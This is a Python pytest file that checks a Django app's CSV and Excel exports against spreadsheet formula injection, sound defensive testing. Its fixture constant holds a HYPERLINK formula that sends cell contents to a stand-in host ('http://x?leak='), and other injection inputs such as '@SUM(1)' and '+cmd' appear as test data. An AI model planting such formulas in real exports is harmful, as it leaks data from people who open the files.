"""No export cell runs as a formula: CSV cells get a leading quote, Excel cells are text."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from maillage.core import spreadsheets
from maillage.partnerships import network
from maillage.reports.dashboard import as_csv
from tests.ecosystem.factories import OrganisationFactory, ParkFactory, PersonFactory, UserFactory
from tests.events.factories import EventFactory, RegistrationFactory

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://x?leak="&A1,"Click")'


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _no_formula(xlsx: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name


def _text_cell(xlsx: bytes, value: str) -> None:
    workbook = load_workbook(io.BytesIO(xlsx))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    (cell,) = [c for c in cells if c.value == value]
    assert cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_risky_start_is_neutralised(start):
    assert spreadsheets.csv_cell(start + "1+1") == "'" + start + "1+1"
    assert spreadsheets.csv_cell("Planktovie") == "Planktovie"
    assert spreadsheets.csv_cell(-3) == -3  # numbers stay numbers


def test_directory_csv_and_xlsx(client):
    OrganisationFactory(name=EVIL)
    rows = b"".join(client.get(reverse("ecosystem:export_csv")).streaming_content).decode()
    assert [row[0] for row in _csv(rows) if "HYPERLINK" in row[0]] == ["'" + EVIL]
    xlsx = client.get(reverse("ecosystem:export_xlsx")).content
    _no_formula(xlsx)
    _text_cell(xlsx, EVIL)


def test_event_registrations_csv_and_xlsx(client):
    park = ParkFactory()
    event = EventFactory(organisers=[park])
    RegistrationFactory(
        event=event,
        person=PersonFactory(first_name=EVIL),
        organisation=OrganisationFactory(name="@SUM(1)"),
    )
    client.force_login(UserFactory(staff_of=[park]))
    url = reverse("events:export", kwargs={"slug": event.slug, "fmt": "csv"})
    text = client.get(url).content.decode("utf-8-sig")
    cells = [cell for row in _csv(text) for cell in row]
    assert "'" + EVIL in cells and "'@SUM(1)" in cells and EVIL not in cells
    xlsx = client.get(reverse("events:export", kwargs={"slug": event.slug, "fmt": "xlsx"})).content
    _no_formula(xlsx)
    _text_cell(xlsx, EVIL)


def test_network_kumu_csv():
    a, b = OrganisationFactory(name=EVIL), OrganisationFactory(name="+cmd")
    net = network.Network(
        organisations={a.pk: a, b.pk: b},
        relations=[network.Relation(a.pk, b.pk, network.MEMBERSHIP, "-label", None)],
    )
    with zipfile.ZipFile(io.BytesIO(network.kumu_zip(net))) as archive:
        elements = _csv(archive.read("elements.csv").decode())
        connections = _csv(archive.read("connections.csv").decode())
    assert {row[0] for row in elements[1:]} == {"'" + EVIL, "'+cmd"}
    assert connections[1][:2] == ["'" + EVIL, "'+cmd"] and connections[1][3] == "'-label"


def test_report_table_csv():
    text = as_csv(["Organisation", "Registrations"], [[EVIL, 3], ["\tTab", -2]])
    assert _csv(text)[1:] == [["'" + EVIL, "3"], ["'\tTab", "-2"]]
